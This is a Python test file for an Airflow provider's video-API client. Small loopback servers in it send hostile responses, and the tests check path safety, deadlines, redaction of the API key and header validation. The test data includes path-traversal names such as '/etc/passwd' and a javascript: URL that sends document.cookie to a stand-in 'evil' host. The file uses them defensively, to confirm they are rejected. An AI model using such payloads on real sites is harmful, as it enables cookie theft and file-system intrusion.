"""A hostile or broken Kirin: small real HTTP servers on loopback that lie in each way issue 13 found.

Each server is a ``ThreadingHTTPServer`` started by the ``hostile`` fixture and stopped after the
test; a test gives it one handler that plays the API and the file host. Every test asserts the typed
outcome, the time bound where there is one (the deadline plus generous slack), the files on disk and
that the API key appears nowhere the provider wrote to.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import json
import logging
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from airflow_provider_kirin.exceptions import (
    KirinBadResponseError,
    KirinError,
    KirinResultParsingError,
    KirinStorageError,
    KirinTaskFailedError,
    KirinTaskTimeoutError,
    KirinUnreachableError,
    KirinValidationError,
)
from airflow_provider_kirin.hooks.kirin import KirinAsyncHook, KirinHook, forget_connection_readings
from airflow_provider_kirin.io.storage import safe_name
from airflow_provider_kirin.links.kirin import KirinVideoLink
from airflow_provider_kirin.operators.download import KirinDownloadVideoOperator
from airflow_provider_kirin.triggers.kirin import KirinTaskTrigger

KEY = "sk-hostile-Zq9Xw8Vu7Ts6"
KEY_TAIL = KEY[-12:]  # what would survive of a key cut, escaped or echoed in part
ESCAPED_KEY = KEY.replace("-", "\\u002d")  # the key as a JSON string may spell it
VIDEO = b"\x00\x00\x00\x18ftypmp42" + bytes(range(256)) * 64
SLACK = 2.0

Handler = Callable[["Exchange"], None]


class Exchange(BaseHTTPRequestHandler):
    """One request to the hostile server; the test's handler writes the answer."""

    protocol_version = "HTTP/1.0"  # one request per connection: the handler may stop anywhere

    def do_GET(self) -> None:
        self._serve()

    def do_POST(self) -> None:
        self._serve()

    def _serve(self) -> None:
        server: HostileServer = self.server  # type: ignore[assignment]
        length = int(self.headers.get("Content-Length") or 0)
        self.body = self.rfile.read(length) if length else b""
        server.seen.append((self.command, self.path, dict(self.headers)))
        # The client may give up on us mid-answer: that is what the deadline tests want.
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            server.handler(self)

    def log_message(self, format: str, *args: Any) -> None:
        pass

    # -- answers ------------------------------------------------------------------------------
    def send(self, status: int, body: bytes, headers: dict[str, str] | None = None) -> None:
        self.send_response_only(status)
        for name, value in {"Content-Length": str(len(body)), **(headers or {})}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def json(self, data: Any, status: int = 200) -> None:
        self.send(status, json.dumps(data).encode(), {"Content-Type": "application/json"})

    def raw_json(self, text: str, status: int = 200) -> None:
        self.send(status, text.encode(), {"Content-Type": "application/json"})

    def drip(self, data: bytes, every: float, *, headers_too: bool = False) -> None:
        """Send ``data`` one byte each ``every`` seconds (with the headers too, if asked)."""
        head = f"HTTP/1.0 200 OK\r\nContent-Type: application/json\r\nContent-Length: {len(data)}\r\n\r\n"
        if not headers_too:
            self.wfile.write(head.encode())
            self.wfile.flush()
        for byte in (head.encode() if headers_too else b"") + data:
            self.wfile.write(bytes([byte]))
            self.wfile.flush()
            time.sleep(every)


class HostileServer(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Exchange)
        self.handler: Handler = lambda exchange: exchange.send(500, b"no handler")
        self.seen: list[tuple[str, str, dict[str, str]]] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def paths(self) -> list[str]:
        return [path for _, path, _ in self.seen]


@pytest.fixture
def hostile(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[..., HostileServer]]:
    """Start a hostile server with ``kirin_default`` pointing at it (key :data:`KEY`, no retries
    unless asked), and stop it after the test."""
    servers: list[HostileServer] = []

    def start(handler: Handler, **extra: object) -> HostileServer:
        server = HostileServer()
        server.handler = handler
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        servers.append(server)
        conn = {
            "conn_type": "kirin",
            "host": server.url,
            "password": KEY,
            "extra": {"max_retries": 0, "retry_max_wait": 0.05, "timeout": 2, "connect_timeout": 2, **extra},
        }
        monkeypatch.setenv("AIRFLOW_CONN_KIRIN_DEFAULT", json.dumps(conn))
        forget_connection_readings()  # async hooks share a reading for a while: see this server now
        return server

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


def envelope(task_id: str = "kt_1", status: str = "completed", **fields: Any) -> dict[str, Any]:
    return {"task_id": task_id, "status": status, "model": "kirin_v2_5_turbo_t2v", **fields}


def with_video(url: str, **fields: Any) -> dict[str, Any]:
    return envelope(output=[{"content": [{"type": "video", "url": url}]}], usage={"cost": "0.35"}, **fields)


def api_and_files(task: Callable[[Exchange], dict[str, Any]], file: Handler | None = None) -> Handler:
    """A server that answers every ``/v1/tasks/...`` with ``task`` and every ``/files/...`` with ``file``."""

    def handle(exchange: Exchange) -> None:
        if exchange.path.startswith("/files/"):
            (file or (lambda e: e.send(200, VIDEO, {"Content-Type": "video/mp4"})))(exchange)
        else:
            exchange.json(task(exchange))

    return handle


def all_files(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file())


def assert_clean(*texts: Any) -> None:
    for text in texts:
        blob = text if isinstance(text, str) else json.dumps(text, default=repr)
        for form in (KEY, KEY_TAIL, ESCAPED_KEY):
            assert form not in blob, blob[:300]


def assert_error_clean(error: BaseException) -> None:
    assert_clean(str(error), repr(error))
    if isinstance(error, KirinError):
        assert_clean(error.to_dict(), error.message)


async def run_trigger(trigger: KirinTaskTrigger) -> list[dict[str, Any]]:
    return [event.payload async for event in trigger.run()]


# -- 1. nothing a server sends chooses a path ----------------------------------------------------
HOSTILE_STEMS = [
    "../../escaped",
    "/etc/passwd",
    "C:\\Windows\\evil",
    "a/b",
    "a_b",
    "nul\x00byte",
    "..",
    ".",
    "",
    ".hidden",
    "x" * 5000,
    "ünïcödé/‥/／etc",  # noqa: RUF001 - the fullwidth solidus is the point
    "\u202eexe.mp4",
    f"kt_{KEY}",
]


def test_safe_name_never_leaves_the_directory(tmp_path: Path) -> None:
    inside = tmp_path / "dest"
    inside.mkdir()
    names = set()
    for stem in HOSTILE_STEMS:
        for suffix in (".mp4", ".mp4.json"):
            name = safe_name(stem, suffix)
            assert name.endswith(suffix)
            assert not {"/", "\\", "\x00"} & set(name)
            assert name.isascii()
            assert name.isprintable()
            assert not name.startswith((".", "-"))
            assert len(name.encode()) <= 255
            (inside / name).write_bytes(b"x")  # the file system agrees: one plain component
            assert (inside / name).resolve().parent == inside.resolve()
            names.add(name)
    assert len(names) == 2 * len(HOSTILE_STEMS)  # different stems never share a name
    assert {p.parent for p in all_files(tmp_path)} == {inside}
    assert safe_name("kt_0123abc") == "kt_0123abc.mp4"  # a plain id is kept as it is
    with pytest.raises(KirinValidationError):
        safe_name("x", "/../.mp4")


@pytest.mark.parametrize("task_id", ["../../escaped", "/tmp/absolute", "..", ".", "kt/x", "kt\x00", "ünï"])
def test_operator_refuses_a_task_id_that_is_not_plain(
    hostile: Callable[..., HostileServer], tmp_path: Path, task_id: str
) -> None:
    server = hostile(api_and_files(lambda e: with_video(f"{server.url}/files/v.mp4", task_id=task_id)))
    destination = tmp_path / "a" / "b" / "dest"
    operator = KirinDownloadVideoOperator(task_id="keep", kirin_task_id="kt_1", destination=str(destination))
    with pytest.raises(KirinBadResponseError, match="not a plain identifier"):
        operator.execute(context={})  # type: ignore[arg-type]
    assert all_files(tmp_path) == []
    assert not any(p.startswith("/files/") for p in server.paths())  # nothing was downloaded


def test_operator_names_video_and_sidecar_with_safe_name(
    hostile: Callable[..., HostileServer], tmp_path: Path
) -> None:
    def task(exchange: Exchange) -> None:
        data = with_video(f"{server.url}/files/v.mp4?sig={KEY}", task_id="kt.a:b", created_at="CREATED")
        # An echoed key, JSON-escaped, in a timestamp; in the signed URL as it is.
        exchange.raw_json(json.dumps(data).replace('"CREATED"', f'"2026-01-01T00:00:00Z {ESCAPED_KEY}"'))

    files = api_and_files(lambda e: {})
    server = hostile(lambda e: files(e) if e.path.startswith("/files/") else task(e))
    operator = KirinDownloadVideoOperator(task_id="keep", kirin_task_id="kt.a:b", destination=str(tmp_path))
    (stored,) = operator.execute(context={})  # type: ignore[arg-type]
    video, sidecar_path = tmp_path / safe_name("kt.a:b", ".mp4"), tmp_path / safe_name("kt.a:b", ".mp4.json")
    assert stored == video.as_uri()
    assert all_files(tmp_path) == sorted([video, sidecar_path])
    assert video.read_bytes() == VIDEO
    sidecar = sidecar_path.read_text()
    assert_clean(sidecar, stored)
    assert json.loads(sidecar)["created_at"] == "2026-01-01T00:00:00Z ***"


@pytest.mark.parametrize(
    "file_path",
    [
        "..%2F..%2Fescaped.mp4",
        "%2Fetc%2Fpasswd.mp4",
        "a%00b.mp4",
        "%C3%BCn%C3%AF.mp4",
        "x" * 300 + ".mp4",
        ".mp4",
    ],
)
def test_download_into_a_directory_never_leaves_it(
    hostile: Callable[..., HostileServer], tmp_path: Path, file_path: str
) -> None:
    server = hostile(api_and_files(lambda e: {}))
    destination = tmp_path / "a" / "dest"
    destination.mkdir(parents=True)
    path = KirinHook().download_video(f"{server.url}/files/{file_path}", destination).path
    assert path == destination / "video.mp4"
    assert all_files(tmp_path) == [destination / "video.mp4"]


# -- 2. total time limits --------------------------------------------------------------------------
def drip_task(*, headers_too: bool = False, seconds: float = 10.0) -> Handler:
    body = json.dumps(envelope(status="processing")).encode()
    every = seconds / (len(body) + (80 if headers_too else 0))
    return lambda exchange: exchange.drip(body, every, headers_too=headers_too)


@pytest.mark.parametrize("headers_too", [False, True], ids=["body", "headers"])
def test_sync_request_ends_by_its_total_deadline(
    hostile: Callable[..., HostileServer], headers_too: bool
) -> None:
    hostile(drip_task(headers_too=headers_too), request_timeout=2)
    started = time.monotonic()
    with pytest.raises(KirinUnreachableError, match=r"total deadline of 2\.0 s") as caught:
        KirinHook().get_task("kt_1")
    assert time.monotonic() - started < 2 + SLACK
    assert_error_clean(caught.value)


async def test_async_request_ends_by_its_total_deadline(hostile: Callable[..., HostileServer]) -> None:
    hostile(drip_task(), request_timeout=2)
    started = time.monotonic()
    async with KirinAsyncHook() as hook:
        with pytest.raises(KirinUnreachableError, match=r"total deadline of 2\.0 s"):
            await hook.get_task("kt_1")
    assert time.monotonic() - started < 2 + SLACK


def test_wait_for_task_ends_by_its_deadline_against_a_drip(hostile: Callable[..., HostileServer]) -> None:
    hostile(drip_task())  # request_timeout stays at its default of 60 s: the wait's deadline clips it
    started = time.monotonic()
    with pytest.raises(KirinTaskTimeoutError):
        KirinHook().wait_for_task("kt_1", poll_interval=0.5, timeout=2, first_poll_delay=0)
    assert time.monotonic() - started < 2 + 1 + SLACK  # 1 s: the least a last check gets


async def test_trigger_reports_by_its_deadline_against_a_drip(hostile: Callable[..., HostileServer]) -> None:
    hostile(drip_task())
    started = time.monotonic()
    trigger = KirinTaskTrigger("kt_1", poll_interval=0.5, deadline=time.time() + 2)
    (event,) = await asyncio.wait_for(run_trigger(trigger), 30)
    assert event["status"] == "timeout"
    assert time.monotonic() - started < 2 + 1 + SLACK


async def test_a_status_check_gets_the_read_timeout_in_all(hostile: Callable[..., HostileServer]) -> None:
    # Every byte comes well within the 1 s read timeout, so only a check's total budget (the read
    # timeout, not the 60 s request_timeout) cuts it off: each check fails after 1 s, and the
    # failure budget of 1 s ends the wait long before the 10 s body or the 30 s deadline would.
    hostile(drip_task(), timeout=1)
    started = time.monotonic()
    trigger = KirinTaskTrigger("kt_1", poll_interval=0.5, deadline=time.time() + 30, max_poll_error_seconds=1)
    (event,) = await asyncio.wait_for(run_trigger(trigger), 40)
    assert event["status"] == "error", event
    assert "total deadline of 1.0 s" in event["error"]["message"]
    assert time.monotonic() - started < 10


def test_download_ends_by_its_deadline_and_leaves_nothing(
    hostile: Callable[..., HostileServer], tmp_path: Path
) -> None:
    def slow_file(exchange: Exchange) -> None:
        exchange.send_response_only(200)
        exchange.send_header("Content-Type", "video/mp4")
        exchange.end_headers()  # no Content-Length: a cut-off body must not look complete
        for _ in range(40):
            exchange.wfile.write(VIDEO[:64])
            exchange.wfile.flush()
            time.sleep(0.25)

    server = hostile(api_and_files(lambda e: {}, slow_file), download_timeout=2)
    started = time.monotonic()
    with pytest.raises(KirinStorageError, match=r"total deadline of 2\.0 s"):
        KirinHook().download_video(f"{server.url}/files/v.mp4", tmp_path / "v.mp4")
    assert time.monotonic() - started < 2 + SLACK
    assert all_files(tmp_path) == []


# -- 3, 4 and 5. redaction where values enter --------------------------------------------------------
@pytest.mark.parametrize("echo", [KEY, ESCAPED_KEY], ids=["plain", "json-escaped"])
async def test_a_key_echoed_in_the_task_id_goes_nowhere(
    hostile: Callable[..., HostileServer], caplog: pytest.LogCaptureFixture, tmp_path: Path, echo: str
) -> None:
    caplog.set_level(logging.DEBUG)
    body = f'{{"task_id": "kt_{echo}", "status": "completed", "output": []}}'
    hostile(lambda exchange: exchange.raw_json(body))
    with pytest.raises(KirinBadResponseError) as sync_error:
        KirinHook().get_task("kt_1")
    async with KirinAsyncHook() as hook:
        with pytest.raises(KirinBadResponseError) as async_error:
            await hook.get_task("kt_1")
    (event,) = await run_trigger(KirinTaskTrigger("kt_1", poll_interval=0.1, max_poll_error_seconds=0))
    operator = KirinDownloadVideoOperator(task_id="keep", kirin_task_id="kt_1", destination=str(tmp_path))
    with pytest.raises(KirinBadResponseError) as operator_error:
        operator.execute(context={})  # type: ignore[arg-type]
    assert event["status"] == "error"
    for error in (sync_error.value, async_error.value, operator_error.value):
        assert_error_clean(error)
    assert_clean(event, caplog.text)
    assert all_files(tmp_path) == []


async def test_sync_and_async_read_the_same_clean_task(
    hostile: Callable[..., HostileServer], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    raw = json.dumps(
        with_video(
            f"http://cdn.example.com/v.mp4?sig={KEY}",
            created_at=ESCAPED_KEY,
            metadata={"note": f"Bearer {KEY}"},
            x_future={"echo": KEY},
        )
    ).replace(json.dumps(ESCAPED_KEY), f'"{ESCAPED_KEY}"')
    hostile(lambda exchange: exchange.raw_json(raw))
    sync_task = KirinHook().wait_for_task("kt_1", poll_interval=0.1, timeout=5, first_poll_delay=0)
    async with KirinAsyncHook() as hook:
        async_task = await hook.get_task("kt_1")
    (event,) = await run_trigger(KirinTaskTrigger("kt_1", poll_interval=0.1))
    assert event["status"] == "success"
    assert sync_task.model_dump(mode="json") == async_task.model_dump(mode="json")
    assert sync_task.to_event() == async_task.to_event() == event["task"]
    assert sync_task.video_urls == ["http://cdn.example.com/v.mp4?sig=***"]
    assert sync_task.created_at == "***"
    assert_clean(sync_task.to_result(), sync_task.model_dump(mode="json"), event, caplog.text)


@pytest.mark.parametrize("echo", [KEY, ESCAPED_KEY], ids=["plain", "json-escaped"])
@pytest.mark.parametrize("at", [280, 295, 299, 2000])
def test_error_text_is_redacted_before_it_is_cut(
    hostile: Callable[..., HostileServer], echo: str, at: int
) -> None:
    page = "<html>" + "x" * (at - 6) + echo + "</html>"  # the key straddles the 300-character cut
    hostile(lambda exchange: exchange.send(502, page.encode(), {"Content-Type": "text/html"}))
    with pytest.raises(KirinBadResponseError) as caught:
        KirinHook().get_task("kt_1")
    assert_error_clean(caught.value)
    assert KEY[:8] not in caught.value.message  # not even the head of it


# -- 6. download headers ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("headers", "match"),
    [
        ({}, "no Content-Type"),
        ({"Content-Type": "text/html"}, "not a video"),
        ({"Content-Type": "video/mp4", "Content-Length": "lots"}, "malformed Content-Length"),
        ({"Content-Type": "video/mp4", "Content-Length": "100, 100"}, "malformed Content-Length"),
        ({"Content-Type": "video/mp4", "Content-Encoding": "zstd-bomb"}, "Content-Encoding"),
    ],
)
def test_download_refuses_what_is_not_plainly_a_video(
    hostile: Callable[..., HostileServer], tmp_path: Path, headers: dict[str, str], match: str
) -> None:
    def lying_file(exchange: Exchange) -> None:
        exchange.send_response_only(200)
        for name, value in headers.items():
            exchange.send_header(name, value)
        exchange.end_headers()
        exchange.wfile.write(VIDEO[:100])

    server = hostile(api_and_files(lambda e: {}, lying_file))
    with pytest.raises(KirinStorageError, match=match):
        KirinHook().download_video(f"{server.url}/files/v.mp4", tmp_path / "v.mp4")
    assert all_files(tmp_path) == []


def test_download_without_content_type_is_accepted_only_on_request(
    hostile: Callable[..., HostileServer], tmp_path: Path
) -> None:
    server = hostile(api_and_files(lambda e: {}, lambda e: e.send(200, VIDEO)))
    path = (
        KirinHook()
        .download_video(f"{server.url}/files/v.mp4", tmp_path / "v.mp4", require_video_type=False)
        .path
    )
    assert path.read_bytes() == VIDEO


def test_a_gzip_encoded_download_is_stored_decoded_and_whole(
    hostile: Callable[..., HostileServer], tmp_path: Path
) -> None:
    packed = gzip.compress(VIDEO)
    headers = {"Content-Type": "video/mp4", "Content-Encoding": "gzip"}
    server = hostile(api_and_files(lambda e: {}, lambda e: e.send(200, packed, headers)))
    path = KirinHook().download_video(f"{server.url}/files/v.mp4", tmp_path / "v.mp4").path
    assert path.read_bytes() == VIDEO
    (_, _, sent), *_ = [s for s in server.seen if s[1].startswith("/files/")]
    assert sent.get("Accept-Encoding") == "identity"  # it was not asked for

    cut = {**headers, "Content-Length": str(len(packed))}
    server.handler = lambda exchange: _short(exchange, packed, cut)
    with pytest.raises(KirinStorageError):
        KirinHook().download_video(f"{server.url}/files/v.mp4", tmp_path / "cut.mp4")
    assert all_files(tmp_path) == [path]


def _short(exchange: Exchange, data: bytes, headers: dict[str, str]) -> None:
    exchange.send_response_only(200)
    for name, value in headers.items():
        exchange.send_header(name, value)
    exchange.end_headers()
    exchange.wfile.write(data[: len(data) // 2])


# -- 7 and 8. links and task ids ---------------------------------------------------------------------
def test_a_javascript_url_is_no_video_link_or_download(hostile: Callable[..., HostileServer]) -> None:
    hostile(lambda exchange: exchange.json(with_video("javascript:fetch('//evil/'+document.cookie)")))
    with pytest.raises(KirinResultParsingError, match="no video URL"):
        KirinHook().wait_for_task("kt_1", poll_interval=0.1, timeout=5, first_poll_delay=0)
    operator = SimpleNamespace(kirin_video_url="javascript:alert(1)")
    assert KirinVideoLink().get_link(operator, ti_key=None) == ""  # type: ignore[arg-type]
    operator.kirin_video_url = "https://cdn.example.com/v.mp4"
    assert KirinVideoLink().get_link(operator, ti_key=None) == "https://cdn.example.com/v.mp4"  # type: ignore[arg-type]


@pytest.mark.parametrize("task_id", ["..", "."])
async def test_a_dot_task_id_never_reaches_a_url_path(
    hostile: Callable[..., HostileServer], task_id: str
) -> None:
    server = hostile(lambda exchange: exchange.json(envelope(task_id, status="pending"), status=201))
    with pytest.raises(KirinBadResponseError, match="not a plain identifier"):
        KirinHook().create_task("a fox")
    with pytest.raises(KirinValidationError):
        KirinHook().wait_for_task(task_id, poll_interval=0.1, timeout=2, first_poll_delay=0)
    async with KirinAsyncHook() as hook:
        with pytest.raises(KirinValidationError):
            await hook.get_task(task_id)
    assert server.paths() == ["/v1/videos/generations"]  # only the create: no GET /v1/ or /v1/tasks/


# -- 9. sizes, costs, credentials ----------------------------------------------------------------------
def test_error_text_and_codes_are_capped(hostile: Callable[..., HostileServer]) -> None:
    # just under max_response_bytes (1 MiB): the largest error text a server can get through
    failed = envelope(status="failed", error={"code": "E" * 100_000, "error_message": "m" * 900_000})
    hostile(lambda exchange: exchange.json(failed))
    with pytest.raises(KirinTaskFailedError) as caught:
        KirinHook().wait_for_task("kt_1", poll_interval=0.1, timeout=5, first_poll_delay=0)
    assert len(str(caught.value)) < 2_000
    assert caught.value.code is not None
    assert len(caught.value.code) < 120


@pytest.mark.parametrize("cost", ["1e400", "NaN", "-3.5", '"-3.5"', '"lots"', '"1e400"'])
def test_a_cost_must_be_a_plain_non_negative_decimal(
    hostile: Callable[..., HostileServer], cost: str
) -> None:
    body = json.dumps(with_video("http://cdn.example.com/v.mp4")).replace('"0.35"', cost)
    hostile(lambda exchange: exchange.raw_json(body))
    with pytest.raises(KirinBadResponseError, match="cost"):
        KirinHook().get_task("kt_1")


def test_a_rejected_url_is_not_echoed_with_its_credentials(hostile: Callable[..., HostileServer]) -> None:
    hostile(lambda exchange: exchange.json({}))
    with pytest.raises(KirinValidationError) as caught:
        KirinHook().download_video("ftp://user:hunter2pass@files.example.com/v.mp4?sig=abc", "/tmp/never.mp4")
    assert "hunter2pass" not in str(caught.value)
    assert "sig=abc" not in str(caught.value)
    assert "ftp://files.example.com/v.mp4" in str(caught.value)
